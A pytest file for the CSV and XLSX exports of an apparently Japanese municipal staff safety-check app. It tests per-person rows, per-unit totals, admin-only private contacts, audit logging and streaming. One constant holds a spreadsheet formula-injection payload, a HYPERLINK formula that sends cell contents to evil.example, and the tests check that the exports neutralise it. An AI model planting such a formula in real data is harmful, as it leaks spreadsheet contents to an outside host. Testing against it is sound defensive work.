"""A round's answers and totals as CSV and XLSX: one row per person with the current answer in
the reader's language, the times, on-behalf and by whom, the check-in; the totals per unit; a
formula in a name or a comment is written as text in both formats; private contacts only for
administrators; every export audited; headquarters only; the CSV streams (30,000 rows)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from asgiref.sync import async_to_sync
from django.http import StreamingHttpResponse
from django.urls import reverse

from directory.models import AuditEntry, OrgUnit, Staff
from directory.services import staff_search_fields
from safety import answers, assembly, rounds, views_records
from safety.exports import round_csv
from safety.models import AssemblyPlace, SafetyContact, SafetyRequest
from tests.factories import StaffFactory
from tests.safety.conftest import SAFE

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture
def round_(city):
    StaffFactory(unit=city.kita_section, family_name=EVIL, given_name="太郎")
    return rounds.round_start(actor=city.mayor, title="北部地震 安否確認", target={"all": True})


def request_of(round_, staff) -> SafetyRequest:
    return SafetyRequest.objects.select_related("staff").get(round=round_, staff=staff)


def csv_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel in Japan opens UTF-8 with a BOM
    return list(csv.reader(io.StringIO(text[1:])))


def url(round_, fmt) -> str:
    return reverse("safety:round_export", args=[round_.pk, fmt])


@pytest.fixture
def answered(city, round_):
    """kita0 answered herself (safe, coming to 北区役所, then arrived); kita1 was answered for
    by the 北区長 after a phone call; the person with the formula name wrote a formula."""
    kita0, kita1 = (request_of(round_, s) for s in city.kita_staff[:2])
    evil = SafetyRequest.objects.get(round=round_, staff__family_name=EVIL)
    answers.answer_from_link(request=kita0, data={**SAFE, "comment": "家族も無事"})
    answers.answer_on_behalf(
        actor=city.ward_head,
        request=kita1,
        data={**SAFE, "self": "minor", "attend": "no"},
        via="phone",
    )
    answers.answer_from_link(request=evil, data={**SAFE, "attend": "no", "comment": EVIL})
    assembly.checkin_from_link(request=kita0, place=AssemblyPlace.objects.get(name="北区役所"))
    SafetyContact.objects.create(staff=city.kita_staff[0], email="hanako@private.example")
    return kita0, kita1, evil


def test_the_csv_has_a_row_per_person_in_japanese_and_the_totals(client, city, round_, answered):
    kita0, kita1, _evil = answered
    client.force_login(city.mayor)

    rows = csv_rows(client.get(url(round_, "csv")))

    header = rows[0]
    assert header[:6] == ["所属", "職員番号", "氏名", "本人の状況", "家族の状況", "住居"]
    assert "私用メールアドレス" not in header  # headquarters, not an administrator
    people = rows[1 : rows.index([])]
    assert len(people) == 13  # everyone asked, answered or not
    by_number = {r[1]: dict(zip(header, r, strict=True)) for r in people}
    own = by_number[kita0.staff.employee_number]
    assert (own["本人の状況"], own["参集"], own["参集先"], own["コメント"]) == (
        "無事",
        "可能",
        "北区役所",
        "家族も無事",
    )
    assert (own["回答方法"], own["代理回答"], own["入力者"]) == ("回答リンク", "", "")
    assert own["参集"] == "可能" and own["到着場所"] == "北区役所" and own["到着日時"]
    assert own["最初の回答日時"] and own["最新の回答日時"] == own["最初の回答日時"]
    proxy = by_number[kita1.staff.employee_number]
    assert (proxy["本人の状況"], proxy["参集"], proxy["代理回答"], proxy["入力者"]) == (
        "軽傷",
        "不可",
        "はい",
        city.ward_head.staff.full_name,
    )
    assert proxy["回答方法"] == "代理回答（電話で確認）"
    silent = by_number[city.chuo_staff[0].employee_number]
    assert silent["最初の回答日時"] == "" and silent["本人の状況"] == ""
    totals = rows[rows.index([]) + 1 :]
    assert totals[0] == ["所属別集計"]
    assert totals[1][:6] == ["所属", "階層", "対象者", "回答済み", "未回答", "回答率（%）"]
    city_row = dict(zip(totals[1], totals[2], strict=True))
    assert (city_row["所属"], city_row["対象者"], city_row["回答済み"]) == ("大阪市", "13", "3")
    assert (city_row["参集予定"], city_row["到着済み"]) == ("1", "1")
    assert city_row["本人の状況: 軽傷"] == "1"


def test_a_formula_in_a_name_or_a_comment_stays_text_in_both_formats(
    client, city, round_, answered, admin_user
):
    client.force_login(admin_user)

    rows = csv_rows(client.get(url(round_, "csv")))
    book = openpyxl.load_workbook(io.BytesIO(client.get(url(round_, "xlsx")).content))

    evil_row = next(r for r in rows if r[2].startswith("'=HYPERLINK"))
    assert evil_row[2] == f"'{EVIL} 太郎" and f"'{EVIL}" in evil_row
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not any(c.data_type == "f" for c in cells)  # no formula anywhere
    written = [c.value for c in cells if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert written == [f"'{EVIL} 太郎", f"'{EVIL}"]


def test_the_workbook_has_the_people_and_the_totals_per_unit(client, city, round_, answered):
    kita0 = answered[0]
    client.force_login(city.mayor)

    response = client.get(url(round_, "xlsx"))

    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert f"safety-{round_.pk}-" in response["Content-Disposition"]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["回答", "所属別集計"]
    people = list(book["回答"].iter_rows(values_only=True))
    header = people[0]
    assert len(people) == 14 and "私用メールアドレス" not in header
    mine = dict(
        zip(header, next(r for r in people if r[1] == kita0.staff.employee_number), strict=True)
    )
    assert mine["参集"] == "可能" and mine["到着場所"] == "北区役所"
    assert mine["最初の回答日時"].year >= 2024  # a real date-time cell, not text
    totals = list(book["所属別集計"].iter_rows(values_only=True))
    assert totals[0][:3] == ("所属", "階層", "対象者") and totals[1][:3] == ("大阪市", 0, 13)


def test_private_contacts_are_a_column_for_administrators_only(
    client, city, round_, answered, admin_user
):
    client.force_login(admin_user)
    rows = csv_rows(client.get(url(round_, "csv")))
    book = openpyxl.load_workbook(io.BytesIO(client.get(url(round_, "xlsx")).content))

    header = rows[0]
    column = header.index("私用メールアドレス")
    by_number = {r[1]: r for r in rows[1 : rows.index([])]}
    assert by_number[city.kita_staff[0].employee_number][column] == "hanako@private.example"
    assert by_number[city.kita_staff[1].employee_number][column] == ""
    assert "私用メールアドレス" in next(book.worksheets[0].iter_rows(values_only=True))

    client.force_login(city.mayor)
    assert (
        "hanako@private.example"
        not in b"".join(client.get(url(round_, "csv")).streaming_content).decode()
    )


def test_exports_are_audited_and_for_headquarters_only(client, city, round_, staff_user):
    client.force_login(staff_user)
    assert client.get(url(round_, "csv")).status_code == 403
    assert client.get(url(round_, "xlsx")).status_code == 403
    assert AuditEntry.objects.filter(action="safety.round_export").count() == 0

    client.force_login(city.mayor)
    b"".join(client.get(url(round_, "csv")).streaming_content)
    client.get(url(round_, "xlsx"))

    entries = AuditEntry.objects.filter(action="safety.round_export").order_by("id")
    assert [(e.actor, e.target_id, e.data["format"]) for e in entries] == [
        (city.mayor, str(round_.pk), "csv"),
        (city.mayor, str(round_.pk), "xlsx"),
    ]


def test_the_labels_follow_the_readers_language(client, city, round_, answered):
    city.mayor.language = "en"
    city.mayor.save(update_fields=["language"])
    client.force_login(city.mayor)

    rows = csv_rows(client.get(url(round_, "csv")))

    assert rows[0][:4] == ["Unit", "Employee number", "Name", "Are you safe?"]
    own = next(r for r in rows if r[1] == city.kita_staff[0].employee_number)
    assert own[3] == "Safe" and "arrived" in own


def test_under_asgi_the_csv_is_sent_a_chunk_at_a_time(city, round_, answered):
    """Daphne reads a synchronous iterator to the end before sending; the view gives it an
    asynchronous one that takes the rows in chunks (same text)."""
    whole = "".join(round_csv(round_=round_, private=False))

    async def collect():
        return [
            chunk
            async for chunk in views_records._stream(iter(round_csv(round_=round_, private=False)))
        ]

    chunks = async_to_sync(collect)()

    assert "".join(chunks) == whole


@pytest.mark.slow
def test_thirty_thousand_people_stream_as_csv(client, city):
    unit = OrgUnit.objects.get(code="OSK-W01-1")
    rows = []
    for n in range(30_000 - Staff.objects.count()):
        s = Staff(
            employee_number=f"{700000 + n}",
            family_name="佐藤",
            given_name=f"{n}",
            family_kana="さとう",
            given_kana="たろう",
            unit=unit,
        )
        s.search_key, s.kana_sort = staff_search_fields(s)
        rows.append(s)
    Staff.objects.bulk_create(rows, batch_size=2000)
    round_ = rounds.round_start(actor=city.mayor, title="全職員", target={"all": True})
    client.force_login(city.mayor)

    response = client.get(url(round_, "csv"))

    lines = 0
    for chunk in response.streaming_content:
        lines += chunk.count(b"\n")
    assert round_.total == 30_000
    assert lines == 1 + 30_000 + 1 + 1 + 1 + 5  # header, people, blank, title, header, 5 units
